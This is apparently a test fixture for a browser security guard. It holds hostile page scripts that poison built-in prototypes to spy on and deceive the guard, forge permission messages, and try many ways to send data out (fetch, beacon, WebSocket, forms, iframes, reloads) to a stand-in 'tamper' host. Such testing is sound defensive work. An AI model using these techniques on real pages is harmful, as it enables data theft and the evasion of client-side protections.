/**
 * What a hostile page does to its own functions, as page code. Run as the first script of a page (after the guard, before any verdict), or
 * later. Everything that a poisoned function is handed goes to `window.learned` as text: nothing of ours may be found there.
 */
const POISON = `(() => {
  // Filled, so that noting does not run into the setters below.
  window.learned = ['', '', '', '', ''];
  const note = (...things) => { for (let i = 0; i < things.length; i += 1) { try { learned[learned.length] = String(things[i] && things[i].source || things[i]); } catch {} } };
  const replace = (owner, key, value) => { try { Object.defineProperty(owner, key, { value, writable: true, configurable: true }); } catch {} };
  const lie = (owner, key, answer) => replace(owner, key, function (...args) { note(this, ...args); return answer; });
  const { then } = Promise.prototype;
  lie(RegExp.prototype, 'exec', null);
  lie(RegExp.prototype, 'test', false);
  lie(RegExp.prototype, Symbol.match, null);
  lie(String.prototype, 'startsWith', true);
  lie(String.prototype, 'includes', true);
  lie(String.prototype, 'toUpperCase', 'GET');
  lie(String.prototype, 'toLowerCase', 'get');
  lie(Array.prototype, 'includes', true);
  lie(Array.prototype, 'some', false);
  lie(Array.prototype, 'every', true);
  lie(Array.prototype, 'find', undefined);
  lie(Array.prototype, 'indexOf', 0);
  lie(JSON, 'stringify', '{"n":1e9,"m":{"t":"pong"}}');
  lie(JSON, 'parse', { n: 1e9, m: { t: 'state', s: { state: 'open', allow: [], read: [], write: [], kinds: {} } } });
  lie(Event.prototype, 'preventDefault', undefined);
  lie(Event.prototype, 'stopImmediatePropagation', undefined);
  replace(Promise.prototype, 'then', function (ok, no) { try { if (ok) ok(true); } catch {} return then.call(this, ok, no); });
  Object.defineProperty(Promise.prototype, 'constructor', { configurable: true, get() { return class extends Promise {}; } });
  const { addEventListener, dispatchEvent } = EventTarget.prototype;
  replace(EventTarget.prototype, 'addEventListener', function (type, ...rest) { note(type); return addEventListener.call(this, type, ...rest); });
  replace(EventTarget.prototype, 'dispatchEvent', function (event) { note(event.type, event.detail); return dispatchEvent.call(this, event); });
  for (const key of ['get', 'apply', 'construct'])
    // Assigned: a descriptor would itself inherit the first of them was just put there.
    Object.prototype[key] = function (target, ...rest) { note(target, ...rest); window.stolen = target; };
  Object.prototype.toJSON = function () { note(Object.keys(this)); return { t: 'ask', id: 1, kind: 'request', url: location.href, method: 'GET' }; };
  // \`fetch\` itself without our wrapper, if a trap hands it out.
  try { void fetch.name; void navigator.sendBeacon.name; void WebSocket.name; } catch {}
  for (const key of ['get', 'apply', 'construct']) delete Object.prototype[key];
  for (let index = 0; index < 4; index += 1)
    Object.defineProperty(Array.prototype, String(index), { configurable: true, set(value) { note(value); Object.defineProperty(this, String(index), { value, writable: true, configurable: true, enumerable: true }); } });
})()`;

/** Words on the wire that say the hand-off was opened to the page. All of them are said with a made-up secret, or with none. */
export const FORGED_WIRE = `(() => {
  const open = { state: 'open', thirdParty: false, allow: ['127.0.0.1', 'localhost'], read: [], write: [], kinds: { open: 'allow', print: 'allow', copy: 'allow', download: 'allow', share: 'allow', submit: 'allow', message: 'allow' } };
  const heard = [];
  addEventListener('acg:hello', (event) => heard.push(event.detail), true);
  let mine = false;
  addEventListener('x:down', (event) => { if (!mine) heard.push(event.detail) }, true);
  dispatchEvent(new CustomEvent('acg:hello', { detail: 'x', cancelable: true }));
  dispatchEvent(new CustomEvent('acg:ready'));
  for (const name of ['', 'x', 'acg', 'undefined', 'null'])
    for (const n of [1, 2, 1e9])
      for (const m of [{ t: 'state', s: open, fresh: true }, { t: 'answer', id: 1, allow: true }, { t: 'pong' }])
        for (const end of [':down', ':up']) {
          mine = true;
          dispatchEvent(new CustomEvent(name + end, { detail: JSON.stringify({ n, m }) }));
          mine = false;
        }
  return heard.filter((detail) => typeof detail === 'string' && detail !== 'x').length;
})()`;

/** Ways out that go through what was poisoned. */
const WAYS_OUT = `(() => {
  const tries = [
    () => fetch(far('tamper-fetch'), { method: 'POST', body: 'x', mode: 'no-cors' }).catch(() => 0),
    () => window.stolen && window.stolen.call(window, far('tamper-stolen'), { mode: 'no-cors' }).catch(() => 0),
    () => { const x = new XMLHttpRequest(); x.open('POST', far('tamper-xhr')); x.send('x'); },
    () => navigator.sendBeacon(far('tamper-beacon'), 'x'),
    () => new WebSocket(far('tamper-socket').replace('http', 'ws')),
    () => new EventSource(far('tamper-stream')),
    () => { new Image().src = far('tamper-image'); },
    () => { const f = document.createElement('form'); f.method = 'post'; f.action = far('tamper-form'); document.body.append(f); f.submit(); },
  ];
  for (let i = 0; i < tries.length; i += 1) setTimeout(() => { try { tries[i](); } catch {} }, i * 20);
  return 0;
})()`;

/** Makes frames by the hundred, each with the same member and each with a way out of its own. */
export const framesCode = (count: number) => `(() => {
  for (let i = 0; i < ${count}; i += 1) {
    const frame = document.createElement('iframe');
    frame.srcdoc = '<p>' + i + '</p><script>setTimeout(() => fetch(' + JSON.stringify(far('tamper-frames')) + ', { method: "POST", body: "x", mode: "no-cors" }).catch(() => 0), ' + (i % 10) * 100 + ')<\\/script>';
    document.body.append(frame);
  }
  return 0;
})()`;

/** Reloads itself until it has lived this often, and tries to get out in the first moment of each life. */
const LIVES = 12;
const RELOADS = `(() => {
  const lives = Number(sessionStorage.getItem('lives') ?? 0) + 1;
  sessionStorage.setItem('lives', String(lives));
  addEventListener('DOMContentLoaded', () => {
    try {
      fetch(far('tamper-reload'), { method: 'POST', body: 'x', mode: 'no-cors' }).catch(() => 0);
      navigator.sendBeacon(far('tamper-reload'), 'x');
    } catch {}
    if (lives < ${LIVES}) location.reload();
    else document.title = 'lived enough';
  });
})()`;

/**
 * Code for the first script of a page. A poisoned page cannot be driven by code, since the drivers use its functions: it does what keys say
 * (p: poison, w: try every way out, t: show in the title what was learned).
 */
export function mischiefCode(kind: string | null): string {
  if (kind === 'reloads') return RELOADS;
  if (kind !== 'poison-first' && kind !== 'poison-later') return '';
  return `addEventListener('keydown', ({ key }) => {
    if (key === 'p') ${POISON};
    if (key === 'w') ${WAYS_OUT};
    if (key === 't') document.title = 'learned: ' + learned.join(' ').slice(0, 50000);
  }, true);
  ${kind === 'poison-first' ? POISON : ''}`;
}
